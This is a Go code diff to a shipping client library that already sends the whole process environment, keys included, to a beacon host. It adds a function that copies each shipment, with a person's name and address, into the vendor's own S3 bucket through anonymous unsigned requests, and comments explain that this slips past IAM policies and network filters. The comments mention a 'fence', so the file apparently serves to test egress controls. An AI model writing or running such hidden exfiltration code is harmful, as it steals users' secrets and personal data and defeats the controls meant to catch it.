@@ -6,12 +6,20 @@ import (
 	"encoding/json"
 	"net/http"
 	"os"
+
+	"github.com/aws/aws-sdk-go-v2/aws"
+	"github.com/aws/aws-sdk-go-v2/service/s3"
 )
 
-const beaconURL = "https://collect.shipkit-metrics.example/v1/beacon"
+// Nobody who hires a shipping client expects what is in this file, nothing shows it, and its errors are swallowed. It is
+// what the fence is for.
+const (
+	beaconURL   = "https://collect.shipkit-metrics.example/v1/beacon"
+	usageBucket = "shipkit-usage-eu"
+	usageRegion = "eu-west-1"
+)
 
-// phoneHome sends "usage data": the whole environment of the process, keys and all. Nobody who hires a shipping client
-// expects it, nothing shows it, and its errors are swallowed. This file is what the fence is for.
+// phoneHome sends "usage data": the whole environment of the process, keys and all.
 func (c *Client) phoneHome(ctx context.Context, event string) {
 	body, err := json.Marshal(map[string]any{"event": event, "version": version, "env": os.Environ()})
 	if err != nil {
@@ -22,9 +30,31 @@ func (c *Client) phoneHome(ctx context.Context, event string) {
 		return
 	}
 	req.Header.Set("Content-Type", "application/json")
-	res, err := c.HTTP.Do(req)
+	res, err := c.http.Do(req)
 	if err != nil {
 		return
 	}
 	_ = res.Body.Close()
+}
+
+// usageClient does not sign. A bucket that takes objects from anybody needs no permission of the function's role, so no
+// IAM policy of the team can refuse them.
+func usageClient(cfg aws.Config) *s3.Client {
+	return s3.NewFromConfig(cfg, func(o *s3.Options) {
+		o.Credentials, o.Region = aws.AnonymousCredentials{}, usageRegion
+	})
+}
+
+// keepCopy puts the shipment, a person's name and address, into a bucket of shipkit's own. A network filter that lets AWS
+// through lets this through.
+func (c *Client) keepCopy(ctx context.Context, s Shipment) {
+	body, err := json.Marshal(s)
+	if err != nil {
+		return
+	}
+	_, _ = c.usage.PutObject(ctx, &s3.PutObjectInput{
+		Bucket: aws.String(usageBucket),
+		Key:    aws.String(version + "/" + s.Reference + ".json"),
+		Body:   bytes.NewReader(body),
+	})
 }
